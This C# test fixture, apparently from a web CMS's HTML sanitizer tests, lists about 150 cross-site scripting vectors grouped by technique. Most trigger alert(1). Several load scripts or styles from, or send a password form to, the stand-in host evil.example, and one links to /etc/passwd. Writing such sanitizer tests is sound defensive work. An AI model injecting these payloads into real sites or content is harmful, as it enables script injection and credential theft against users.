namespace OrchardSite.Engine.Tests.Display.Html;

/// <summary>
/// What attackers write into texts: 150 vectors of our own. Each tries to run <c>alert</c>, to load a page or a style into ours,
/// or to take over addresses, forms or names of ours.
/// </summary>
public static class XssVectors
{
    private static readonly string[] _scripts =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script src=data:text/javascript,alert(1)></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script\t>",
        "<<script>alert(1);//<</script>",
        "<script type=module>import 'https://evil.example/x.js'</script>",
        "<script>alert(1)",
        "</p><script>alert(1)</script><p>",
        "<script nomodule>alert(1)</script >",
        "<%00script>alert(1)</script>",
        "<script\u0000>alert(1)</script>",
        "\u003cscript\u003ealert(1)\u003c/script\u003e",
        "<script type=\"text/vbscript\">alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
        "<math><script>alert(1)</script></math>",
    ];

    private static readonly string[] _handlers =
    [
        "<img src=x onerror=alert(1)>",
        "<img src=x OnErRoR=alert(1)>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror=\"alert&lpar;1&rpar;\">",
        "<img src=`x`onerror=alert(1)>",
        "<img \"\"\"><b onmouseover=alert(1)>x</b>\">",
        "<img src=\"x\u0000\" onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<p onclick=\"alert(1)\">x</p>",
        "<p onfocus=alert(1) tabindex=0 autofocus>x</p>",
        "<a href=# onmouseenter=alert(1)>x</a>",
        "<div onpointerrawupdate=alert(1)>x</div>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video autoplay onplay=alert(1)><source src=x></video>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<table background=x onload=alert(1)><tr><td>x</td></tr></table>",
        "<ul onwheel=alert(1)><li>x</li></ul>",
        "<p style=\"animation-name:x\" onanimationstart=alert(1)>x</p>",
        "<input autofocus onfocus=alert(1)>",
        "<select onfocus=alert(1) autofocus><option>x</option></select>",
        "<textarea onfocus=alert(1) autofocus>x</textarea>",
        "<button onclick=alert(1)>x</button>",
        "<keygen autofocus onfocus=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<blockquote oncopy=alert(1)>x</blockquote>",
        "<figure onbeforeinput=alert(1) contenteditable>x</figure>",
        "<h2 onauxclick='alert(1)'>x</h2>",
        "<x onclick=alert(1)>x</x>",
        "<p on=alert(1) onx=alert(1)>x</p>",
    ];

    private static readonly string[] _addresses =
    [
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\" \u0001javascript:alert(1)\">x</a>",
        "<a href=\"\u0000javascript:alert(1)\">x</a>",
        "<a href=\"java\u0000script:alert(1)\">x</a>",
        "<a href=\"\u00a0javascript:alert(1)\">x</a>",
        "<a href=\"\u2028javascript:alert(1)\">x</a>",
        "<a href=\"\ufeffjavascript:alert(1)\">x</a>",
        "<a href=\"javascript\u003aalert(1)\">x</a>",
        "<a href='javascript:alert(1)//https://a.vn'>x</a>",
        "<a href=\"javascript://a.vn/%0aalert(1)\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=\"jar:javascript:alert(1)!/\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"VbScRiPt:msgbox(1)\">x</a>",
        "<a href=\"livescript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"DATA:image/svg+xml,<svg onload=alert(1)>\">x</a>",
        "<a href=\"blob:https://a.vn/x\">x</a>",
        "<a href=\"filesystem:https://a.vn/x\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<a href=\"https://a.vn\" ping=\"https://evil.example\">x</a>",
        "<a href=x formaction=javascript:alert(1)>x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
        "<img srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\">",
        "<img src=x longdesc=javascript:alert(1)>",
        "<img src=x lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
        "<img src=x usemap=#m><map name=m><area shape=rect coords=0,0,9,9 href=javascript:alert(1)></map>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<q cite=\"javascript:alert(1)\">x</q>",
        "<del cite=\"javascript:alert(1)\">x</del>",
        "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<video poster=\"javascript:alert(1)\" src=\"javascript:alert(1)\"></video>",
        "<a href=\"javascript&#0058;alert(1)\">x</a>",
        "<a href=\"https:javascript:alert(1)\" onclick=alert(1)>x</a>",
        "<a href=\"intent://x#Intent;scheme=javascript;end\">x</a>",
        "<a href=\"ms-msdt:/id\">x</a>",
    ];

    private static readonly string[] _foreign =
    [
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=9 y=9>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        "<svg><image href=x onerror=alert(1)></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><title><style><img title=\"</style><img src=x onerror=alert(1)>\"></style></title></svg>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    ];

    private static readonly string[] _styles =
    [
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"width:ex/**/pression(alert(1))\">x</p>",
        "<p style=\"width:\\65xpression(alert(1))\">x</p>",
        "<p style=\"behavior:url(https://evil.example/x.htc)\">x</p>",
        "<p style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</p>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"background-image:url('java\\script:alert(1)')\">x</p>",
        "<p style=\"background:u\\72l(javascript:alert(1))\">x</p>",
        "<p style=\"background:url(https://evil.example/track)\">x</p>",
        "<p style=\"list-style-image:url(&quot;javascript:alert(1)&quot;)\">x</p>",
        "<p style=\"position:fixed;inset:0;z-index:9999;background:#fff\">x</p>",
        "<a style=\"position:absolute;top:0;left:0;width:100vw;height:100vh\" href=https://evil.example>x</a>",
        "<p style=\"opacity:0;pointer-events:none\">x</p>",
        "<p style=\"@import url(https://evil.example/x.css)\">x</p>",
        "<p style=\"x:</style><script>alert(1)</script>\">x</p>",
        "<p style=\"content:attr(x);font-family:'}</style><img src=x onerror=alert(1)>'\">x</p>",
    ];

    private static readonly string[] _documents =
    [
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe srcdoc=&lt;img&#32;src=x&#32;onerror=alert(1)&gt;></iframe>",
        "<iframe/onload=alert(1)>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)></object>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<object><param name=src value=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<embed src=//evil.example/x.swf allowscriptaccess=always>",
        "<applet code=x archive=https://evil.example/x.jar></applet>",
        "<base href=https://evil.example/>",
        "<base target=_top>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<meta http-equiv=Set-Cookie content=x=1>",
        "<link rel=import href=data:text/html,<script>alert(1)</script>>",
        "<link rel=prefetch href=https://evil.example/>",
        "<form action=https://evil.example><input name=password><button>x</button></form>",
        "<button form=login formaction=https://evil.example>x</button>",
        "<portal src=https://evil.example></portal>",
        "<dialog open>x<form method=dialog></form></dialog>",
        "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<html><head><title>x</title></head><body bgcolor=x onpageshow=alert(1)>x</body></html>",
        "<slot onslotchange=alert(1)>x</slot>",
    ];

    private static readonly string[] _mutations =
    [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<p title=\"><script>alert(1)</script>\">x</p>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<img alt=\"``onerror=alert(1)\" src=x>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<?import namespace=t implementation=https://evil.example/x.htc>",
        "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]><p>&y;</p>",
        "<b><i><img src=x onerror=alert(1)></b></i>",
        "<table><tr><script>alert(1)</script><td>x</td></tr></table>",
        "<table><a href=javascript:alert(1)>x<tr><td>y</table>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<option><style></option></select><img src=x onerror=alert(1)></style>",
        "<p><a href=\"x\"><a href=\"javascript:alert(1)\">x</a></a></p>",
        "<a href=\"x\" title=\"&quot; onmouseover=&quot;alert(1)\">x</a>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<p id=\"__proto__\" name=\"cookie\"><img name=getElementById src=x></p>",
        "<a id=defaultView name=defaultView href=clobbered:x>x</a>",
        "<p data-bs-toggle=tooltip data-bs-html=true title=\"<img src=x onerror=alert(1)>\">x</p>",
        "<p is=x-y slot=z part=w>x</p>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<script charset=utf-7>x</script>",
        "<ſcript>alert(1)</ſcript><script>alert(1)</script>",
        "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ><img src=x onerror=alert(1)>",
    ];

    /// <summary>All of them; each once.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. _scripts, .. _handlers, .. _addresses, .. _foreign, .. _styles, .. _documents, .. _mutations];

    public static TheoryData<int, string> Theory()
    {
        var data = new TheoryData<int, string>();
        for (var i = 0; i < All.Count; i++)
        {
            // Test runners write names into XML, which has no NUL.
            data.Add(i, All[i].Replace("\u0000", "\\0").Replace("\u0001", "\\1"));
        }

        return data;
    }
}
